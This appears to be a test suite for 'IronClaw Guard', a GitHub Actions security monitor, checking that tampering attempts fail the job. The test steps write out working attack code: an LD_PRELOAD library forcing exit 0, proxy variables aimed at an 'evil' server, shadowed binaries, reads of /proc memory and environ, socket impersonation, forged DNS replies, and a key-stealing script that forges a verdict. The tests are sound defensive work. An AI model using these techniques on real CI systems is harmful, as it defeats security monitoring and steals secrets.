import assert from 'node:assert/strict';
import { readdirSync, readFileSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import { type TestContext, test } from 'node:test';
import type { Event } from '../../src/events/event.ts';
import { FakeGitHub, GRANTED } from './github/fake-github.ts';
import { cannotBeRoot, eventually, GUARD, guardedJob, hasLeft, PLACE, packaged, ROOT } from './guarded-job.ts';
import type { Job, RunStep } from './runner/job.ts';
import { runJob } from './runner/run-job.ts';

/** What a step can do to the guard itself. Each attack ends in a failed job, changes nothing, or is named in docs/threat-model.md. */
const skip = cannotBeRoot();
const auto = { sensor: 'auto' };
const ACTION = '$RUNNER_TEMP/../_actions/ironclaw/guard/v1';
const COMPANION = `$(${ROOT} sed 's/.*"pid":\\([0-9]*\\).*/\\1/' ${PLACE}/holder.json)`;
/** The sensor is the companion's one child while the job runs. */
const SENSOR = `$(cat /proc/${COMPANION}/task/*/children)`;
const NODE = '$RUNNER_TEMP/../../externals/node24/bin/node';
const theft: RunStep = { run: 'head -c 1 /proc/$PPID/mem >/dev/null 2>&1 || true', id: 'theft' };

/** Longer than the real runner, so that a busy machine decides nothing; a worker that is killed does not wait for it. */
const uploadMs = 10_000;

async function fake(t: TestContext): Promise<{ github: FakeGitHub; on: Partial<Job> }> {
  const github = await FakeGitHub.start({ permissions: GRANTED });
  t.after(() => github.close());
  return { github, on: { github: { api_url: github.api, server_url: 'https://github.example' } } };
}

const ended = ({ repository }: FakeGitHub): string[] =>
  [...repository.checks.values()].map(({ conclusion }) => conclusion ?? 'open');

/** Ends the process with status 0 before its first line, where it runs post. */
const PRELOADED = `#include <stdio.h>
#include <string.h>
#include <unistd.h>
__attribute__((constructor)) static void begin(void) {
  char line[4096] = "";
  FILE *file = fopen("/proc/self/cmdline", "r");
  size_t n = fread(line, 1, sizeof line - 1, file);
  for (size_t i = 0; i < n; i++) if (line[i] == 0) line[i] = 1;
  if (strstr(line, "/dist/post/")) _exit(0);
}
`;

test('a post that a step replaced, behind a crowd of busy processes: the runner reports the job as failed, and so does the check run', {
  skip,
}, async (t) => {
  const { github, on } = await fake(t);
  const replace = `echo 'console.log("IronClaw Guard: pass")' > x && mv x ${ACTION}/dist/post/index.js`;
  // each ends by itself: nobody is left to end them
  const crowd = `for i in $(seq 12); do setsid bash -c 'while ((SECONDS < 3)); do :; done' >/dev/null 2>&1 & done`;
  const steps = [{ run: `${replace}\n${crowd}` }];
  const result = await guardedJob({ ...auto, token: 'ghs_given' }, steps, { ...on, uploadMs });
  assert.equal(result.conclusion, 'lost', 'the worker reports nothing');
  await eventually('the check run ends', () => !ended(github).includes('open'));
  assert.deepEqual(ended(github), ['failure']);
  const [check] = [...github.repository.checks.values()];
  assert.match(JSON.stringify(check), /ended with status 0 and had not waited for the verdict/);
  assert.match(JSON.stringify(check), /guard-write/);
  await eventually('companion and sensor are gone', () => hasLeft(result));
});

test('a post that hears the verdict and ends with status 0 all the same does not make a job green', {
  skip,
}, async () => {
  const end =
    'require("fs").writeFileSync(process.env.RUNNER_TEMP + "/heard", `${process.exitCode}`); process.reallyExit(0)';
  const patch = `sed -i '1i process.on("exit", () => { ${end}; });' ${ACTION}/dist/post/index.js`;
  let heard = '';
  const result = await guardedJob(auto, [{ run: patch }], { uploadMs }, ({ temp }) => {
    heard = readFileSync(join(temp, 'heard'), 'utf8');
  });
  assert.equal(heard, '1', 'the honest rest of it would have failed');
  assert.equal(result.conclusion, 'lost');
  await eventually('companion and sensor are gone', () => hasLeft(result));
});

test('what steps leave in GITHUB_ENV and GITHUB_PATH: code in post’s process is answered, the rest changes nothing', {
  skip,
}, async (t) => {
  const { github, on } = await fake(t);
  const evil = await FakeGitHub.start();
  t.after(() => evil.close());
  const lines = [
    'STATE_guard={"role":"blind","reason":"x"}',
    ...['INPUT_MODE=report', 'INPUT_SENSOR=none', 'GITHUB_ACTION=other', 'RUNNER_TEMP=/nonexistent'],
    ...['HTTPS_PROXY', 'https_proxy', 'HTTP_PROXY', 'http_proxy'].map((name) => `${name}=${evil.origin}`),
    ...['NODE_EXTRA_CA_CERTS=/nonexistent.pem', 'SSL_CERT_FILE=/nonexistent.pem', `GITHUB_API_URL=${evil.api}`],
  ];
  const spoil = lines.map((line) => `echo '${line}' >> $GITHUB_ENV`).join('\n');
  const forge =
    'd=$(echo $RUNNER_TEMP/ironclaw-guard-*); mkdir $d/recording && echo \'{"decision":"pass","findings":[]}\' > $d/recording/result.json';
  const programs =
    'mkdir bin; for p in sudo node sh cp git docker systemd-run strace; do printf "#!/bin/sh\\ntouch $RUNNER_TEMP/called-$p\\n" > bin/$p; chmod +x bin/$p; done; echo $PWD/bin >> $GITHUB_PATH';
  let called: string[] = [];
  const wordy = await guardedJob(
    { ...auto, token: 'ghs_given' },
    [{ run: [programs, forge, spoil].join('\n') }, theft],
    on,
    (job) => {
      called = readdirSync(job.temp).filter((name) => name.startsWith('called-'));
    },
  );
  assert.equal(wordy.conclusion, 'failure');
  assert.match(wordy.guard.post?.log ?? '', /IronClaw Guard: fail; .*runner-memory/);
  assert.equal(wordy.document?.decision, 'fail', 'what lay in the place of the result is gone');
  assert.deepEqual(ended(github), ['failure']);
  assert.deepEqual([evil.requests, called], [[], []]);

  const preload = `cat > x.c <<'E'\n${PRELOADED}E\ngcc -shared -fPIC -o x.so x.c && echo LD_PRELOAD=$PWD/x.so >> $GITHUB_ENV`;
  const preloaded = await guardedJob(auto, [{ run: preload }], { uploadMs });
  assert.equal(preloaded.conclusion, 'lost');
});

/** Answers post as a companion does, without its key. */
const IMPOSTOR = `require("net").createServer((s) => s.on("data", () => s.end(JSON.stringify({ answer: JSON.stringify({ decision: "pass", enforce: false, headline: "pass", table: "", annotations: [], summary: "" }), seal: "0".repeat(64) })))).listen(process.argv[1])`;

test('who answers post in the companion’s place has a job that fails', { skip }, async () => {
  const impersonate = `${ROOT} mv ${PLACE}/control ${PLACE}/real
${ROOT} ${NODE} -e '${IMPOSTOR}' ${PLACE}/control >/dev/null 2>&1 &
for i in $(seq 100); do [ -S ${PLACE}/control ] && break; sleep 0.05; done`;
  const { conclusion, guard } = await guardedJob(auto, [{ run: impersonate }]);
  assert.equal(conclusion, 'failure');
  assert.match(guard.post?.log ?? '', /tampering: what answered in the companion's place does not hold its key/);
});

/** Resolves a registry's name at a server of its own, which says that it is at 203.0.113.7, and connects there. */
const FORGED_NAME = `const dns = require('dns'), net = require('net'), udp = require('dgram').createSocket('udp4');
udp.on('message', (m, { port, address }) => { const a = Buffer.concat([m.subarray(0, 2), Buffer.from('81800001000100000000', 'hex'), m.subarray(12, m.indexOf(0, 12) + 5), Buffer.from('c00c000100010000003c0004cb007107', 'hex')]); udp.send(a, port, address); });
udp.bind(53, '203.0.113.9', () => { const r = new dns.Resolver(); r.setServers(['203.0.113.9']); r.resolve4('registry.example', (e, [a]) => { net.connect(443, a).on('error', () => process.exit()); setTimeout(() => process.exit(), 500); }); });`;
/** A network of the step's own, where those addresses are and nobody listens. */
const apart = (command: string): string =>
  `${ROOT} unshare --net sh -c 'ip link set lo up; ip addr add 203.0.113.7/32 dev lo; ip addr add 203.0.113.9/32 dev lo; ${command}' || true`;

test('signals to the guard, what the workspace and a name server claim, a storm over a starved sensor: each in one job', {
  skip,
}, async () => {
  const steps: RunStep[] = [
    { id: 'sensor', run: `s=${SENSOR}; ${ROOT} kill -STOP $s; ${ROOT} kill -CONT $s` },
    { id: 'companion', run: `c=${COMPANION}; ${ROOT} kill -STOP $c; ${ROOT} kill -CONT $c` },
    {
      id: 'registry',
      run: `echo 'registry=http://203.0.113.7:4873/' > .npmrc; ${apart('npm view left-pads --fetch-retries=0 --cache ./cache >/dev/null 2>&1')}`,
    },
    {
      id: 'name',
      run: `cat > dns.js <<'E'\n${FORGED_NAME}\nE\n${apart(`${NODE} dns.js`)}`,
    },
    {
      id: 'impostor',
      run: `mkdir -p npm/bin; echo '{"name":"npm","version":"10.8.2"}' > npm/package.json; echo 'require("fs").writeFileSync(process.env.RUNNER_TEMP + "/made", "")' > npm/bin/npm-cli.js; ${NODE} npm/bin/npm-cli.js install`,
    },
    {
      id: 'starve',
      run: `${ROOT} renice -n 19 -p ${SENSOR} ${COMPANION} >/dev/null; mkdir many; for i in $(seq 4); do (for n in $(seq 3000); do : > many/$i-$n; done) & done; wait`,
    },
  ];
  let events: Event[] = [];
  const result = await guardedJob(auto, steps, {}, ({ temp }) => {
    const own = readdirSync(temp).find((name) => name.startsWith('ironclaw-guard-')) ?? '';
    const text = readFileSync(join(temp, own, 'recording/events.ndjson'), 'utf8');
    events = text
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line) as Event);
  });
  assert.equal(result.conclusion, 'failure', result.guard.post?.log);
  const found = (key: string): string[] =>
    (result.document?.findings ?? []).filter(({ step }) => step.key === key).map(({ rule }) => rule);
  const all = JSON.stringify(result.document?.findings.map(({ rule, step }) => [step.key, rule]));
  for (const key of ['sensor', 'companion']) assert.ok(found(key).includes('guard-signal'), all);
  for (const key of ['registry', 'name']) assert.ok(found(key).includes('never-resolved'), all);
  const connects = events.filter((event) => event.kind === 'net.connect' && event.addr === '203.0.113.7');
  assert.ok(connects.length > 1 && connects.every((event) => !('host' in event)), 'no name of that server counts');
  const npm = result.document?.invocations.find(({ tool, step }) => tool.name === 'npm' && step.key === 'impostor');
  assert.equal(npm?.baseline.source, 'class', 'it has not the rights of npm');
  const created = events.filter((event) => event.kind === 'file.create' && /\/many\/\d-\d+$/.test(event.path)).length;
  assert.ok(
    created + (result.document?.coverage.lost ?? 0) >= 12_000,
    `${created} of 12,000, and the rest not counted`,
  );
});

/** Waits for main, takes the key out of its environment, and asks for the verdict, so that the recording ends there. */
const THIEF = `const fs = require('fs'), c = require('crypto'), n = require('net'), end = Date.now() + 20000;
const look = () => {
  for (const p of fs.readdirSync('/proc').filter(Number)) try {
    if (!fs.readFileSync('/proc/' + p + '/cmdline', 'latin1').includes('/guard/v1/dist/main/')) continue;
    const s = JSON.parse(/STATE_guard=([^\\0]*)/.exec(fs.readFileSync('/proc/' + p + '/environ', 'latin1'))[1]);
    const nonce = 'a'.repeat(32), seal = c.createHmac('sha256', Buffer.from(s.key, 'hex')).update('post\\n' + nonce + '\\nverdict').digest('hex');
    fs.writeFileSync(process.env.RUNNER_TEMP + '/stolen', '');
    return n.connect(s.directory + '/control').on('connect', function () { this.write(JSON.stringify({ nonce, ask: 'verdict', seal }) + '\\n'); });
  } catch {}
  if (Date.now() < end) setImmediate(look);
};
fs.writeFileSync(process.env.RUNNER_TEMP + '/looking', '');
look();`;

test('a key that is taken from main ends no recording; `mode: report` of a pull request loosens nothing, continue-on-error does, and then the check run tells', {
  skip,
}, async (t) => {
  const { github, on } = await fake(t);
  github.repository.contents.set('.github/ironclaw.yml', 'mode: enforce\n');
  const given = { ...auto, mode: 'report', token: 'ghs_given' };
  const guard = { uses: GUARD, id: 'guard', with: given, continueOnError: true };
  const thief = `cat > thief.js <<'E'\n${THIEF}\nE\n${NODE} thief.js >/dev/null 2>&1 &\nuntil [ -e $RUNNER_TEMP/looking ]; do sleep 0.05; done`;
  const steps = [{ run: thief }, guard, { run: 'sleep 0.5; ls $RUNNER_TEMP', id: 'ls' }, theft];
  const result = await runJob({ steps, actions: { [GUARD]: packaged }, ...on });
  rmSync(result.root, { recursive: true, force: true });
  const post = result.steps.find(({ key, stage }) => key === 'guard' && stage === 'post');
  assert.match(result.steps.find(({ key, stage }) => key === 'ls' && stage === 'main')?.log ?? '', /^stolen$/m);
  assert.equal(post?.outcome, 'failure', post?.log);
  assert.match(post?.log ?? '', /runner-memory/);
  assert.equal(result.conclusion, 'success');
  assert.deepEqual(ended(github), ['failure']);
});
